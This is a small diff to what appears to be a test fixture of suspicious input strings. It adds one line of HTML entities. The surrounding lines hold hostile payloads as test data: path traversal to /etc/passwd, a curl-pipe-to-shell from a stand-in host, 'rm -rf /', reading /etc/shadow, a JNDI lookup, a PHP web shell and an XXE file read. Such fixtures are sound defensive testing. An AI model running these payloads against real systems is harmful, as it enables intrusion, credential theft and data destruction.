@@ -32,6 +32,7 @@ _SUSPICIOUS = (
     "../../../../etc/passwd ..%2f..%2fetc%2fpasswd C:\\Windows\\System32\\cmd.exe",
     "$(curl http://files.example/x.sh | sh); `id`; rm -rf / && cat /etc/shadow",
     "${jndi:ldap://files.example/a} {{7*7}} <?php system($_GET['c']); ?> %00",
+    "&lt;b&gt; &amp;amp; &quot;a&quot; &#39;b&#x27; &nbsp;&copy; a%20b+c%3D",
     "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
 )
 _LOOK_ALIKES = ("12", "007", "-1.50", "1e3", "true", "null", "2026-11-24", "[]", "")
